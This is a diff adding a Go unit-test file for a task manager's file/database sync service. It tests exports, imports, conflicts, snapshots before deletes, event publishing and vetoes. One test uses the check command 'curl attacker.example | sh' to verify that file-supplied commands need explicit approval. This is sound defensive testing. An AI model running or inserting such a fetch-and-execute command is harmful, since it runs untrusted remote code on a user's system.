@@ -0,0 +1,417 @@
+package application_test
+
+import (
+	"context"
+	"crypto/sha256"
+	"encoding/hex"
+	"encoding/json"
+	"errors"
+	"sort"
+	"testing"
+	"time"
+
+	"github.com/kgatilin/ai-task-manager/internal/task_manager/application"
+	"github.com/kgatilin/ai-task-manager/internal/task_manager/application/dto"
+	"github.com/kgatilin/ai-task-manager/internal/task_manager/application/mocks"
+	"github.com/kgatilin/ai-task-manager/internal/task_manager/domain/entities"
+	tmerrors "github.com/kgatilin/ai-task-manager/internal/task_manager/domain/errors"
+	"github.com/kgatilin/ai-task-manager/internal/task_manager/domain/events"
+	"github.com/kgatilin/ai-task-manager/internal/task_manager/domain/services"
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+)
+
+const syncTestDir = "/sync"
+
+// fakeSyncStore keeps sync files in memory; a file's hash is the hash of its entity's JSON
+type fakeSyncStore struct {
+	files map[string]services.SyncFile
+}
+
+func (f *fakeSyncStore) ReadFiles(ctx context.Context, dir string) ([]services.SyncFile, error) {
+	result := []services.SyncFile{}
+	for _, file := range f.files {
+		result = append(result, file)
+	}
+	sort.Slice(result, func(i, j int) bool { return result[i].Path < result[j].Path })
+	return result, nil
+}
+
+func (f *fakeSyncStore) WriteFile(ctx context.Context, dir string, entity services.SyncEntity) (services.SyncFile, error) {
+	hash, err := f.Hash(entity)
+	if err != nil {
+		return services.SyncFile{}, err
+	}
+	file := services.SyncFile{Entity: entity, Path: f.FilePath(entity.GetType(), entity.GetID()), Hash: hash}
+	f.files[file.Path] = file
+	return file, nil
+}
+
+func (f *fakeSyncStore) RemoveFile(ctx context.Context, dir, entityType, entityID string) error {
+	delete(f.files, f.FilePath(entityType, entityID))
+	return nil
+}
+
+func (f *fakeSyncStore) Hash(entity services.SyncEntity) (string, error) {
+	data, err := json.Marshal(entity)
+	if err != nil {
+		return "", err
+	}
+	sum := sha256.Sum256(data)
+	return hex.EncodeToString(sum[:]), nil
+}
+
+func (f *fakeSyncStore) FilePath(entityType, entityID string) string {
+	return entityType + "/" + entityID + ".md"
+}
+
+// editFile replaces the entity held by a file, as a hand edit would
+func (f *fakeSyncStore) editFile(t *testing.T, entity services.SyncEntity) {
+	t.Helper()
+	hash, err := f.Hash(entity)
+	require.NoError(t, err)
+	path := f.FilePath(entity.GetType(), entity.GetID())
+	f.files[path] = services.SyncFile{Entity: entity, Path: path, Hash: hash}
+}
+
+// syncTestEnv holds a sync service over a project with a roadmap, a track and a task
+type syncTestEnv struct {
+	service   *application.SyncApplicationService
+	taskRepo  *mocks.MockTaskRepository
+	acRepo    *mocks.MockAcceptanceCriteriaRepository
+	store     *fakeSyncStore
+	states    map[string]*entities.SyncState
+	tx        *mocks.MockTransactionManager
+	bus       *recordingEventBus
+	guard     *vetoingGuard
+	snapshots []string // Reasons of the snapshots taken
+	now       time.Time
+}
+
+func setupSyncTest(t *testing.T) *syncTestEnv {
+	t.Helper()
+	ctx := context.Background()
+	now := time.Date(2025, 6, 1, 12, 0, 0, 0, time.UTC)
+
+	roadmapRepo := mocks.NewMockRoadmapRepository()
+	trackRepo := mocks.NewMockTrackRepository()
+	taskRepo := mocks.NewMockTaskRepository()
+	roadmap, _ := entities.NewRoadmapEntity("roadmap-1", "Vision", "Criteria", now, now)
+	track, _ := entities.NewTrackEntity("TM-track-1", roadmap.ID, "Core", "", "in-progress", 100, nil, now, now)
+	task, _ := entities.NewTaskEntity("TM-task-1", track.ID, "Model", "", "todo", 100, "", now, now)
+	require.NoError(t, roadmapRepo.SaveRoadmap(ctx, roadmap))
+	require.NoError(t, trackRepo.SaveTrack(ctx, track))
+	require.NoError(t, taskRepo.SaveTask(ctx, task))
+	taskRepo.UpdateTaskFunc = func(ctx context.Context, task *entities.TaskEntity) error {
+		return taskRepo.SaveTask(ctx, task)
+	}
+
+	env := &syncTestEnv{
+		taskRepo: taskRepo,
+		acRepo:   &mocks.MockAcceptanceCriteriaRepository{},
+		store:    &fakeSyncStore{files: map[string]services.SyncFile{}},
+		states:   map[string]*entities.SyncState{},
+		tx:       &mocks.MockTransactionManager{},
+		bus:      &recordingEventBus{},
+		guard:    &vetoingGuard{},
+		now:      now,
+	}
+	snapshotRepo := &mocks.MockSnapshotRepository{
+		CreateSnapshotFunc: func(ctx context.Context, projectName, reason string) (*entities.ProjectSnapshot, error) {
+			env.snapshots = append(env.snapshots, reason)
+			return &entities.ProjectSnapshot{ID: "snapshot-1", Project: projectName, Reason: reason}, nil
+		},
+	}
+	stateRepo := &mocks.MockSyncStateRepository{
+		ListSyncStatesFunc: func(ctx context.Context, directory string) ([]*entities.SyncState, error) {
+			var result []*entities.SyncState
+			for _, state := range env.states {
+				result = append(result, state)
+			}
+			return result, nil
+		},
+		SaveSyncStateFunc: func(ctx context.Context, state *entities.SyncState) error {
+			env.states[state.EntityType+"/"+state.EntityID] = state
+			return nil
+		},
+		DeleteSyncStateFunc: func(ctx context.Context, directory, entityType, entityID string) error {
+			delete(env.states, entityType+"/"+entityID)
+			return nil
+		},
+	}
+	env.service = application.NewSyncApplicationService(
+		roadmapRepo,
+		trackRepo,
+		taskRepo,
+		mocks.NewMockIterationRepository(),
+		env.acRepo,
+		&mocks.MockADRRepository{},
+		&mocks.MockDocumentRepository{},
+		stateRepo,
+		env.store,
+		env.tx,
+		env.bus,
+		env.guard,
+		application.NewSnapshotApplicationService(snapshotRepo, entities.DefaultSnapshotPolicy(), "default"),
+	)
+	return env
+}
+
+// sync runs a sync in both directions
+func (env *syncTestEnv) sync(t *testing.T, prefer string, dryRun bool) *dto.SyncReportDTO {
+	t.Helper()
+	report, err := env.service.Sync(context.Background(), dto.SyncDTO{
+		Directory: syncTestDir,
+		Import:    true,
+		Export:    true,
+		Prefer:    prefer,
+		DryRun:    dryRun,
+	})
+	require.NoError(t, err)
+	return report
+}
+
+// TestSyncApplicationService_FirstSyncExportsEverything verifies that a fresh directory receives every entity
+func TestSyncApplicationService_FirstSyncExportsEverything(t *testing.T) {
+	env := setupSyncTest(t)
+
+	report := env.sync(t, "", false)
+
+	require.Len(t, report.Changes, 3)
+	for _, change := range report.Changes {
+		assert.Equal(t, dto.SyncActionExport, change.Action, change.Path)
+		assert.Equal(t, dto.SyncOperationCreate, change.Operation, change.Path)
+		assert.True(t, change.Applied, change.Path)
+	}
+	assert.Len(t, env.store.files, 3)
+	assert.Len(t, env.states, 3, "a baseline should be recorded for every synced entity")
+
+	again := env.sync(t, "", false)
+	assert.Empty(t, again.Changes)
+	assert.Equal(t, 3, again.Unchanged)
+}
+
+// TestSyncApplicationService_DryRunAppliesNothing verifies that a dry run only plans
+func TestSyncApplicationService_DryRunAppliesNothing(t *testing.T) {
+	env := setupSyncTest(t)
+
+	report := env.sync(t, "", true)
+
+	assert.True(t, report.DryRun)
+	assert.Len(t, report.Changes, 3)
+	assert.False(t, report.Changes[0].Applied)
+	assert.Empty(t, env.store.files)
+	assert.Empty(t, env.states)
+}
+
+// TestSyncApplicationService_ImportsEditedFile verifies that a file edited since the last sync updates the database
+func TestSyncApplicationService_ImportsEditedFile(t *testing.T) {
+	env := setupSyncTest(t)
+	env.sync(t, "", false)
+
+	edited, _ := entities.NewTaskEntity("TM-task-1", "TM-track-1", "Model edited", "", "in-progress", 100, "", env.now, env.now)
+	env.store.editFile(t, edited)
+	report := env.sync(t, "", false)
+
+	require.Len(t, report.Changes, 1)
+	assert.Equal(t, dto.SyncActionImport, report.Changes[0].Action)
+	assert.Equal(t, dto.SyncOperationUpdate, report.Changes[0].Operation)
+	task, err := env.taskRepo.GetTask(context.Background(), "TM-task-1")
+	require.NoError(t, err)
+	assert.Equal(t, "Model edited", task.Title)
+	assert.True(t, task.UpdatedAt.After(env.now), "an edit that kept updated_at should be stamped with the import time")
+}
+
+// TestSyncApplicationService_ExportsDatabaseChange verifies that a database change since the last sync rewrites the file
+func TestSyncApplicationService_ExportsDatabaseChange(t *testing.T) {
+	env := setupSyncTest(t)
+	env.sync(t, "", false)
+
+	changed, _ := entities.NewTaskEntity("TM-task-1", "TM-track-1", "Renamed", "", "todo", 100, "", env.now, env.now.Add(time.Hour))
+	require.NoError(t, env.taskRepo.SaveTask(context.Background(), changed))
+	report := env.sync(t, "", false)
+
+	require.Len(t, report.Changes, 1)
+	assert.Equal(t, dto.SyncActionExport, report.Changes[0].Action)
+	assert.Equal(t, "Renamed", env.store.files["task/TM-task-1.md"].Entity.(*entities.TaskEntity).Title)
+}
+
+// TestSyncApplicationService_Conflicts verifies that a change on both sides is only applied when a side is preferred
+func TestSyncApplicationService_Conflicts(t *testing.T) {
+	tests := []struct {
+		name          string
+		prefer        string
+		wantAction    string
+		wantTitle     string
+		wantConflicts int
+	}{
+		{name: "unresolved", prefer: "", wantAction: dto.SyncActionConflict, wantTitle: "Database side", wantConflicts: 1},
+		{name: "prefer files", prefer: dto.SyncPreferFiles, wantAction: dto.SyncActionImport, wantTitle: "File side"},
+		{name: "prefer database", prefer: dto.SyncPreferDatabase, wantAction: dto.SyncActionExport, wantTitle: "Database side"},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			env := setupSyncTest(t)
+			env.sync(t, "", false)
+
+			fileSide, _ := entities.NewTaskEntity("TM-task-1", "TM-track-1", "File side", "", "todo", 100, "", env.now, env.now.Add(time.Minute))
+			env.store.editFile(t, fileSide)
+			dbSide, _ := entities.NewTaskEntity("TM-task-1", "TM-track-1", "Database side", "", "todo", 100, "", env.now, env.now.Add(time.Hour))
+			require.NoError(t, env.taskRepo.SaveTask(context.Background(), dbSide))
+
+			report := env.sync(t, tt.prefer, false)
+
+			require.Len(t, report.Changes, 1)
+			assert.Equal(t, tt.wantAction, report.Changes[0].Action)
+			assert.Equal(t, tt.wantConflicts, report.Conflicts)
+			task, err := env.taskRepo.GetTask(context.Background(), "TM-task-1")
+			require.NoError(t, err)
+			assert.Equal(t, tt.wantTitle, task.Title)
+		})
+	}
+}
+
+// TestSyncApplicationService_DeletedFileDeletesEntity verifies that deleting a synced file deletes its entity
+func TestSyncApplicationService_DeletedFileDeletesEntity(t *testing.T) {
+	env := setupSyncTest(t)
+	env.sync(t, "", false)
+
+	var deleted string
+	env.taskRepo.DeleteTaskFunc = func(ctx context.Context, id string) error {
+		deleted = id
+		return nil
+	}
+	delete(env.store.files, "task/TM-task-1.md")
+	report := env.sync(t, "", false)
+
+	require.Len(t, report.Changes, 1)
+	assert.Equal(t, dto.SyncOperationDelete, report.Changes[0].Operation)
+	assert.Equal(t, "TM-task-1", deleted)
+	assert.Equal(t, []string{entities.SnapshotReasonSyncImport}, env.snapshots, "the project should be snapshotted before the delete")
+	assert.Equal(t, "snapshot-1", report.Snapshot)
+	assertEventTypes(t, env.bus, events.EventTaskDeleted)
+}
+
+// TestSyncApplicationService_ImportPublishesEvents verifies imported changes are announced like the services announce them
+func TestSyncApplicationService_ImportPublishesEvents(t *testing.T) {
+	env := setupSyncTest(t)
+	env.sync(t, "", false)
+	env.bus.published = nil
+
+	done, _ := entities.NewTaskEntity("TM-task-1", "TM-track-1", "Model", "", "done", 100, "", env.now, env.now.Add(time.Hour))
+	env.store.editFile(t, done)
+	created, _ := entities.NewTaskEntity("TM-task-2", "TM-track-1", "View", "", "todo", 200, "", env.now, env.now)
+	env.store.editFile(t, created)
+	env.sync(t, "", false)
+
+	assertEventTypes(t, env.bus, events.EventTaskUpdated, events.EventTaskStatusChanged, events.EventTaskCompleted, events.EventTaskCreated)
+	assert.False(t, env.bus.published[0].Derived)
+	assert.True(t, env.bus.published[1].Derived, "status events repeat the update")
+	assert.Equal(t, "todo", env.bus.published[0].Previous.(*entities.TaskEntity).Status)
+	assert.Equal(t, 2, env.tx.Transactions, "each sync should import in one transaction")
+	assert.Empty(t, env.snapshots, "no snapshot is needed without deletes")
+
+	var guarded []string
+	for _, event := range env.guard.consulted {
+		guarded = append(guarded, event.Type)
+	}
+	assert.Equal(t, []string{events.EventTaskStatusChanged, events.EventTaskCompleted}, guarded)
+}
+
+// TestSyncApplicationService_GuardVetoesImport verifies a vetoed transition stops the import before anything is written
+func TestSyncApplicationService_GuardVetoesImport(t *testing.T) {
+	env := setupSyncTest(t)
+	env.sync(t, "", false)
+	env.bus.published = nil
+	env.guard.reject = events.EventTaskCompleted
+
+	created, _ := entities.NewTaskEntity("TM-task-2", "TM-track-1", "View", "", "todo", 200, "", env.now, env.now)
+	env.store.editFile(t, created)
+	done, _ := entities.NewTaskEntity("TM-task-1", "TM-track-1", "Model", "", "done", 100, "", env.now, env.now.Add(time.Hour))
+	env.store.editFile(t, done)
+
+	_, err := env.service.Sync(context.Background(), dto.SyncDTO{Directory: syncTestDir, Import: true})
+	require.Error(t, err)
+	assert.True(t, errors.Is(err, tmerrors.ErrRejected))
+	task, err := env.taskRepo.GetTask(context.Background(), "TM-task-2")
+	require.NoError(t, err)
+	assert.Nil(t, task, "no file should be imported when a transition is vetoed")
+	assert.Empty(t, env.bus.published)
+}
+
+// TestSyncApplicationService_FailedImportPublishesNothing verifies a failed write rolls the import back without announcing it
+func TestSyncApplicationService_FailedImportPublishesNothing(t *testing.T) {
+	env := setupSyncTest(t)
+	env.sync(t, "", false)
+	env.bus.published = nil
+
+	created, _ := entities.NewTaskEntity("TM-task-2", "TM-track-1", "View", "", "todo", 200, "", env.now, env.now)
+	env.store.editFile(t, created)
+	env.taskRepo.SaveTaskFunc = func(ctx context.Context, task *entities.TaskEntity) error {
+		return errors.New("disk full")
+	}
+
+	_, err := env.service.Sync(context.Background(), dto.SyncDTO{Directory: syncTestDir, Import: true})
+	require.Error(t, err)
+	assert.Equal(t, 1, env.tx.RolledBack)
+	assert.Empty(t, env.bus.published)
+}
+
+// TestSyncApplicationService_RejectsBrokenReference verifies that nothing is imported when a file references a missing entity
+func TestSyncApplicationService_RejectsBrokenReference(t *testing.T) {
+	env := setupSyncTest(t)
+	env.sync(t, "", false)
+
+	orphan, _ := entities.NewTaskEntity("TM-task-2", "TM-track-9", "Orphan", "", "todo", 100, "", env.now, env.now)
+	env.store.editFile(t, orphan)
+	env.taskRepo.SaveTaskFunc = func(ctx context.Context, task *entities.TaskEntity) error {
+		t.Fatalf("task %s should not be saved", task.ID)
+		return nil
+	}
+
+	_, err := env.service.Sync(context.Background(), dto.SyncDTO{Directory: syncTestDir, Import: true, Export: true})
+	require.Error(t, err)
+	assert.True(t, errors.Is(err, tmerrors.ErrInvalidArgument))
+	assert.Contains(t, err.Error(), "TM-track-9")
+}
+
+// TestSyncApplicationService_CheckCommandNeedsApproval verifies that a file setting a check command is
+// reported with the command and only imported when check commands are allowed
+func TestSyncApplicationService_CheckCommandNeedsApproval(t *testing.T) {
+	env := setupSyncTest(t)
+	env.sync(t, "", false)
+
+	var saved []*entities.AcceptanceCriteriaEntity
+	env.acRepo.SaveACFunc = func(ctx context.Context, ac *entities.AcceptanceCriteriaEntity) error {
+		saved = append(saved, ac)
+		return nil
+	}
+	ac := entities.NewAcceptanceCriteriaEntity("TM-ac-1", "TM-task-1", "Builds", entities.VerificationTypeAutomated, "", env.now, env.now)
+	ac.CheckCommand = "curl attacker.example | sh"
+	env.store.editFile(t, ac)
+
+	report := env.sync(t, "", true)
+	require.Len(t, report.Changes, 1)
+	assert.Equal(t, "curl attacker.example | sh", report.Changes[0].CheckCommand, "the diff should show the command")
+
+	_, err := env.service.Sync(context.Background(), dto.SyncDTO{Directory: syncTestDir, Import: true})
+	require.Error(t, err)
+	assert.True(t, errors.Is(err, tmerrors.ErrRejected))
+	assert.Contains(t, err.Error(), "--allow-check-commands")
+	assert.Empty(t, saved, "nothing should be imported without approval")
+
+	_, err = env.service.Sync(context.Background(), dto.SyncDTO{Directory: syncTestDir, Import: true, AllowCheckCommands: true})
+	require.NoError(t, err)
+	require.Len(t, saved, 1)
+	assert.Equal(t, "curl attacker.example | sh", saved[0].CheckCommand)
+}
+
+// TestSyncApplicationService_RejectsInvalidPreference verifies that only files and database are accepted
+func TestSyncApplicationService_RejectsInvalidPreference(t *testing.T) {
+	env := setupSyncTest(t)
+
+	_, err := env.service.Sync(context.Background(), dto.SyncDTO{Directory: syncTestDir, Import: true, Prefer: "mine"})
+	require.Error(t, err)
+	assert.True(t, errors.Is(err, tmerrors.ErrInvalidArgument))
+}